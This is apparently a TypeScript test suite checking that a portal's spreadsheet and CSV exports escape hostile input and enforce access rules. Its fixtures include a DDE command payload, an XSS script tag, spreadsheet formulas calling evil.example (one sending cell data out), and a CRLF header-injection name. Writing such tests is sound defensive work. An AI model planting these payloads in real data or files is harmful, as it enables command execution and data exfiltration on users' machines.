import {
  continueExport,
  deleteExport,
  downloadExport,
  getAuditLogPaged,
  getEventsExport,
  getExports,
  getTestResultsExport,
  grantOrganizationAccess,
  startExport,
  startRawDataExport,
  submitTests,
} from '@plumbline/contract';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { makeExport } from '../../src/features/exports/make-export.job.ts';
import { openZip } from '../../src/platform/spreadsheets/zip-entries.ts';
import type { Viewer } from '../../src/platform/viewer.ts';
import { givenExport, givenQueuedExport } from '../builders/exports.ts';
import { givenGroup, givenOrganization, givenProfile } from '../builders/people.ts';
import { givenEvent } from '../builders/stored-tests.ts';
import { aStanding, aSubmittedTest, reactions } from '../builders/tests.ts';
import { aViewer } from '../database/viewers.ts';
import type { SendOptions, TestServer } from '../http/start-test-server.ts';
import { refusalOf, signIn, startPortal } from '../portal.ts';
import { readWorkbook } from '../read-workbook.ts';

/** security.md, section 8: the abuse cases 6, 12 and 13 where they concern what leaves as a spreadsheet or as raw data. */

// A job that fails is tried again after some seconds.
vi.setConfig({ testTimeout: 120_000, hookTimeout: 240_000 });

const days = { startDate: '2026-03-01', endDate: '2026-03-31' };
/** Everything that a spreadsheet could run, fetch or fall over. */
const hostile = {
  firstName: '=cmd|"/C calc"!A0',
  lastName: '@SUM(A1)"><script>alert(1)</script>',
  group: '+HYPERLINK("http://evil.example";"x")',
  event: '-1+1\t=A1 ]]> &lt; _x0000_ \u0000\u0007',
  note: '\t=WEBSERVICE("http://evil.example/"&A1)',
};

let server: TestServer;
let organizationId: number;
let groupId: number;
let profileId: number;
let admin: SendOptions;
let adminId: number;

beforeAll(async () => {
  server = await startPortal();
  organizationId = (await givenOrganization(server.db, { name: '../../=cmd"\r\nX-Evil: 1' })).id;
  groupId = (await givenGroup(server.db, organizationId, { name: hostile.group })).id;
  const { firstName, lastName } = hostile;
  profileId = (await givenProfile(server.db, organizationId, { firstName, lastName, groupIds: [groupId] }))
    .id;
  const signedIn = await signIn(server, { organizationId, accessTypeId: 2 });
  [admin, adminId] = [signedIn.options, signedIn.id];
  await givenEvent(server.db, organizationId, profileId, {
    name: hostile.event.replaceAll('\u0000', ''),
    startedAt: '2026-03-01T10:00:00Z',
  });
  const { outcomes } = await server.sendOk(
    submitTests,
    {
      tests: [
        aSubmittedTest({
          person: { kind: 'profile', profileId },
          completedOn: '2026-03-02T12:00:00Z',
          note: hostile.note,
          device: { platform: '=iOS', deviceModel: '+phone', appVersion: '@1' },
          results: [
            { measureId: 1002, recording: reactions(240, 245, 250, 255, 260) },
            { measureId: 12, recording: aStanding(0.05, 4) },
          ],
        }),
      ],
    },
    admin,
  );
  expect(outcomes[0]?.profileTestId).toBeGreaterThan(0);
});
afterAll(() => server.stop());

async function staff(): Promise<{ id: number; options: SendOptions }> {
  const { id, options } = await signIn(server, { isSuperAdmin: true });
  await server.sendOk(grantOrganizationAccess, { organizationId, reason: 'Asked by the school' }, options);
  return { id, options: { ...options, organizationId } };
}

const made = async (id: number, as: SendOptions): Promise<Uint8Array> => {
  await vi.waitFor(
    async () => {
      const { exports } = await server.sendOk(getExports, {}, as);
      expect(exports.find((one) => one.id === id)?.status).toBe('ready');
    },
    { timeout: 60_000, interval: 25 },
  );
  const file = await server.sendForFile(downloadExport, { exportId: id }, as);
  expect(file.status).toBe(200);
  return file.body;
};

describe('case 12: what people called themselves', () => {
  test('no name, group, event, note or device is run: each is a text of its own, in a file that is read to its end', async () => {
    const told: string[] = [];
    for (const call of [getTestResultsExport, getEventsExport] as const) {
      const file = await server.sendForFile(call, days, admin);
      expect(file.status).toBe(200);
      // It refuses a formula, and everything that is no row or cell.
      const sheets = await readWorkbook(file.body);
      told.push(
        ...Object.values(sheets)
          .flat(2)
          .filter((cell) => typeof cell === 'string'),
      );
      // Nothing of the organization's or the profile's name gets into a header.
      expect(file.headers.get('content-disposition')).toMatch(
        /^attachment; filename="(Tests|Events)_\d+_2026-03-01_2026-03-31\.xlsx"$/,
      );
      expect(file.headers.get('x-evil')).toBeNull();
      expect(file.headers.get('x-content-type-options')).toBe('nosniff');
    }
    for (const text of [hostile.firstName, hostile.lastName, hostile.group, hostile.note.trim()])
      expect(told.map((cell) => cell.trim())).toContain(text);
  });

  test('raw data are numbers and the portal’s own words: no cell of a line begins as a formula', async () => {
    const { options } = await staff();
    const { export: begun } = await server.sendOk(
      startRawDataExport,
      { ...days, kind: 'allTrials' },
      options,
    );
    const zip = await openZip(await made(begun.id, options));
    const text = Buffer.from((await zip.read('All_Trials_0001.csv')) ?? []).toString();
    expect(text.split('\r\n').length).toBeGreaterThan(3);
    const cells = text.split(/[,\r\n]+/);
    expect(cells.filter((cell) => /^[=@\t]|^[+-](?!\d)/.test(cell))).toEqual([]);
  });
});

describe('case 6: internal staff', () => {
  test('names are in no sheet, file name, list of exports or sentence of the audit log', async () => {
    const { options } = await staff();
    const asked: { body: Uint8Array; headers: Headers }[] = [];
    for (const kind of ['tests', 'events'] as const) {
      const { export: begun } = await server.sendOk(startExport, { ...days, kind }, options);
      const body = await made(begun.id, options);
      const { headers } = await server.sendForFile(downloadExport, { exportId: begun.id }, options);
      asked.push({ body, headers });
    }
    const { exports } = await server.sendOk(getExports, {}, options);
    const { entries } = await server.sendOk(getAuditLogPaged, {}, admin);
    const told = JSON.stringify([
      await Promise.all(asked.map(({ body }) => readWorkbook(body))),
      asked.map(({ headers }) => [...headers]),
      exports,
      entries.filter(({ isByStaff }) => isByStaff),
    ]);
    for (const secret of ['/C calc', '@SUM', 'WEBSERVICE', '-1+1']) expect(told).not.toContain(secret);
    expect(told).toContain(`"number":${profileId}`);
  });

  test('whose grant has ended gets no export, no list and no file that was made before', async () => {
    const { id, options } = await staff();
    const { export: begun } = await server.sendOk(startExport, { ...days, kind: 'tests' }, options);
    await made(begun.id, options);
    await server.db.owner(sql`update staff_grants set revoked_at = now() where account_id = ${id}`);
    const tries = [
      [getTestResultsExport, days],
      [getEventsExport, days],
      [startExport, { ...days, kind: 'tests' }],
      [startRawDataExport, { ...days, kind: 'allTrials' }],
      [getExports, {}],
      ...([downloadExport, continueExport, deleteExport] as const).map(
        (call) => [call, { exportId: begun.id }] as const,
      ),
    ] as const;
    for (const [call, request] of tries)
      expect(await refusalOf(server, call, request as never, options), call.path).toEqual({
        status: 403,
        code: 'organization.no_grant',
      });
  });

  test('B412: raw data take the open organization alone, and null where nothing is chosen', async () => {
    const { options } = await staff();
    const kind = 'allTrials' as const;
    const { export: begun } = await server.sendOk(
      startRawDataExport,
      { ...days, kind, organizationIds: null, groupIds: null },
      options,
    );
    const { export: named } = await server.sendOk(
      startRawDataExport,
      { ...days, kind, organizationIds: [organizationId], groupIds: [groupId] },
      options,
    );
    expect(named.rowCount).toBe(begun.rowCount);
    const elsewhere = (await givenOrganization(server.db)).id;
    const request = { ...days, kind, organizationIds: [organizationId, elsewhere] };
    expect(await refusalOf(server, startRawDataExport, request, options)).toEqual({
      status: 403,
      code: 'export.other_organization',
    });
  });
});

describe('case 13: jobs and links', () => {
  const enqueue = (exportId: number, viewer: Partial<Viewer>) =>
    server.db.database.transaction(
      { as: 'viewer', viewer: aViewer({ organizationId, ...viewer }), requestId: 'test' },
      (tx) => server.services.jobs.enqueue(tx, makeExport, { exportId }, { organizationId }),
    );
  const refusedOf = (jobId: string | null) =>
    vi.waitFor(
      () => {
        const told = server.logLines().filter((line) => line.jobId === jobId);
        expect(told.map(({ message }) => message)).toEqual(['a job was refused: its asker lost access']);
      },
      { timeout: 30_000 },
    );
  const piecesOf = (id: number) =>
    server.db.owner<{ n: number }>(
      sql`select piece_number as n from export_pieces where export_id = ${id} order by 1`,
    );

  test.each([
    [
      'a User who is no longer of the organization',
      async () => {
        const { id: accountId } = await signIn(server, { organizationId, groupIds: [groupId] });
        await server.db.owner(sql`delete from account_groups where account_id = ${accountId}`);
        await server.db.owner(sql`delete from account_organizations where account_id = ${accountId}`);
        return { kind: 'member' as const, accountId, groupIds: [groupId] };
      },
    ],
    [
      'internal staff whose grant was revoked',
      async () => {
        const { id: accountId } = await staff();
        await server.db.owner(
          sql`update staff_grants set revoked_at = now() where account_id = ${accountId}`,
        );
        return { kind: 'super' as const, accountId, groupIds: [], isSuperAdmin: true };
      },
    ],
  ])('an export that waits in the queue is refused to %s, and reads nothing', async (_who, lost) => {
    const viewer = await lost();
    const { accountId } = viewer;
    const exportId = await givenQueuedExport(server.db, { organizationId, accountId, madeFor: viewer });
    await refusedOf(await enqueue(exportId, viewer));
    expect(await piecesOf(exportId)).toEqual([]);
  });

  test('a file stays shut for whoever sees fewer people by now than are in it', async () => {
    const other = (await givenGroup(server.db, organizationId)).id;
    const { id: accountId, options } = await signIn(server, { organizationId, groupIds: [groupId, other] });
    const { export: begun } = await server.sendOk(startExport, { ...days, kind: 'tests' }, options);
    await made(begun.id, options);
    await server.db.owner(
      sql`delete from account_groups where account_id = ${accountId} and group_id = ${groupId}`,
    );
    const { status, body } = await server.send(downloadExport, { exportId: begun.id }, options);
    expect(status).toBe(403);
    expect(body).toMatchObject({
      errors: [
        {
          code: 'export.access_changed',
          message: 'Your access has changed since this export was created. Delete it and create it again.',
        },
      ],
    });
    // Deleting it is still theirs.
    await server.sendOk(deleteExport, { exportId: begun.id }, options);
  });

  test('the file of another account is not there, whoever asks', async () => {
    const exportId = await givenExport(server.db, { organizationId, accountId: adminId });
    const second = (await signIn(server, { organizationId, accessTypeId: 2 })).options;
    const elsewhere = (await givenOrganization(server.db)).id;
    const foreign = (await signIn(server, { organizationId: elsewhere, accessTypeId: 2 })).options;
    for (const as of [second, foreign, (await staff()).options])
      expect(await refusalOf(server, downloadExport, { exportId }, as)).toEqual({
        status: 404,
        code: 'export.not_found',
      });
  });
});
